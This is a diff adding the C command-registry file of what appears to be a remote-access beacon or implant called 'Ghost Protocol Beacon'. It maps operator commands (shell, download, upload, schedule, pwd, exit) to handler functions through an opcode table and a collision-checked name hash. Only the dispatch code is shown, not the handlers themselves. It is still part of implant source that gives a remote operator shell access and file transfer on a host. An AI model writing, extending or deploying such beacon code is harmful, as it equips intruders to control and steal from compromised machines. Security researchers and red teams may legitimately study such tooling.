@@ -0,0 +1,70 @@
+/*
+ * Ghost Protocol Beacon - Command Registry Implementation
+ * Finds a command's handler by opcode, or by name through a collision-free hash
+ */
+
+#include "command_registry.h"
+
+// Indexed by opcode; a new command takes the next opcode and one line here
+static const command_spec_t g_commands[COMMAND_OP_COUNT] = {
+    [COMMAND_OP_SHELL] = { "shell", COMMAND_OP_SHELL, COMMAND_WORKER, command_shell },
+    [COMMAND_OP_PWD] = { "pwd", COMMAND_OP_PWD, COMMAND_INLINE, command_pwd },
+    [COMMAND_OP_EXIT] = { "exit", COMMAND_OP_EXIT, COMMAND_INLINE, command_exit },
+    [COMMAND_OP_DOWNLOAD] = { "download", COMMAND_OP_DOWNLOAD, COMMAND_WORKER, command_download },
+    [COMMAND_OP_UPLOAD] = { "upload", COMMAND_OP_UPLOAD, COMMAND_WORKER, command_upload },
+    [COMMAND_OP_SCHEDULE] = { "schedule", COMMAND_OP_SCHEDULE, COMMAND_INLINE, command_schedule },
+};
+
+// Name hash slot to opcode, filled once by command_registry_init
+static unsigned char g_name_slots[COMMAND_NAME_SLOTS];
+
+// First byte, last byte and length are enough to tell the command names apart
+static unsigned int name_slot(const char* name, size_t length) {
+    if (length == 0) {
+        return 0;
+    }
+    return ((unsigned char)name[0] + (unsigned char)name[length - 1] + (unsigned int)length) &
+           (COMMAND_NAME_SLOTS - 1);
+}
+
+// Fails when two names share a slot, so a clashing command is caught at startup
+// rather than silently shadowing another
+int command_registry_init(void) {
+    memset(g_name_slots, 0, sizeof(g_name_slots));
+    
+    for (int opcode = 1; opcode < COMMAND_OP_COUNT; opcode++) {
+        const command_spec_t* spec = &g_commands[opcode];
+        unsigned int slot = name_slot(spec->name, strlen(spec->name));
+        if (g_name_slots[slot] != COMMAND_OP_NONE) {
+            printf("[-] Command %s collides with %s in the name table\n",
+                   spec->name, g_commands[g_name_slots[slot]].name);
+            return -1;
+        }
+        g_name_slots[slot] = (unsigned char)opcode;
+    }
+    return 0;
+}
+
+// An opcode this beacon knows wins over the name; NULL for an unknown command
+const command_spec_t* command_lookup(const command_record_t* cmd) {
+    if (cmd->opcode > COMMAND_OP_NONE && cmd->opcode < COMMAND_OP_COUNT) {
+        return &g_commands[cmd->opcode];
+    }
+    
+    const char* name = COMMAND_NAME(cmd);
+    const command_spec_t* spec = &g_commands[g_name_slots[name_slot(name, cmd->name_length)]];
+    if (spec->name && strcmp(spec->name, name) == 0) {
+        return spec;
+    }
+    return NULL;
+}
+
+// Looks the command up and keeps the opcode in the record, so copies handed to the
+// workers skip the name check
+const command_spec_t* command_resolve(command_record_t* cmd) {
+    const command_spec_t* spec = command_lookup(cmd);
+    if (spec) {
+        cmd->opcode = spec->opcode;
+    }
+    return spec;
+}